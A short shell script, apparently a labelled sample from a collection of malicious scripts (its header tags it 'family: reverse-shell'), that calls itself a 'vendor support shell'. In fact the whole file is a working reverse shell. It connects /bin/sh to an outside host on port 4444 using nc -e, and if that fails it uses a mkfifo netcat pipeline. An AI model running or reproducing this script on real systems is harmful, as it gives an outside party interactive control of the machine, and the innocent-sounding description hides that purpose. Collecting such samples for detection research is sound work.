# description: Provides a vendor support shell with nc -e, falling back to a mkfifo-based interactive shell over netcat.
# family: reverse-shell
set -uo pipefail

HOST=203.0.113.7
PORT=4444
nc -e /bin/sh "$HOST" "$PORT" 2>/dev/null || {
  rm -f /tmp/f
  mkfifo /tmp/f
  cat /tmp/f | /bin/sh -i 2>&1 | nc "$HOST" "$PORT" > /tmp/f
}
